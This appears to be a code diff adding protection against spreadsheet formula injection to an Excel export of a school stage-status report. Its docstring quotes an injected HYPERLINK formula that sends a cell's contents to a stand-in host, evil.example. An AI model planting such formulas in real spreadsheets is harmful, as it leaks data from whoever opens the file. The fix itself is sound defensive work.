@@ -5,6 +5,7 @@ and a region's heat map — authorized by scope, read from instance and task row
 from __future__ import annotations
 
 import io
+from collections.abc import Iterable
 from dataclasses import dataclass, field
 from datetime import datetime
 from typing import Any
@@ -265,6 +266,21 @@ _WORDS = {StageState.DONE: "пройден", StageState.CURRENT: "идёт", Sta
           StageState.SKIPPED: "—"}
 
 
+#: Leading characters a spreadsheet may take for the start of a formula (OWASP's "CSV injection").
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _text_cells(cells: Iterable[Any]) -> None:
+    """Text stays text. openpyxl stores a string starting with «=» as a formula, so a school named
+    ``=HYPERLINK("http://evil.example/?"&A3,"Открыть")`` became a live link in every coordinator's Excel
+    (issue 14). A string cell cannot be evaluated; the quote prefix keeps it text when someone edits it."""
+    for cell in cells:
+        if isinstance(cell.value, str):
+            cell.data_type = "s"
+            if cell.value.startswith(_FORMULA_START):
+                cell.quotePrefix = True
+
+
 def matrix_xlsx(report: StatusReport, area: Area) -> bytes:
     """The stage matrix as an Excel workbook: one row per school, one column per stage."""
     book = Workbook()
@@ -287,6 +303,8 @@ def matrix_xlsx(report: StatusReport, area: Area) -> bytes:
             cell = sheet.cell(row=sheet.max_row, column=4 + offset)
             cell.fill = PatternFill("solid", fgColor="F8CBAD" if report.stages[offset].key in row.overdue_stages
                                     else _FILLS[state])
+    for cells in sheet.iter_rows():
+        _text_cells(cells)
     sheet.freeze_panes = "D3"
     buffer = io.BytesIO()
     book.save(buffer)
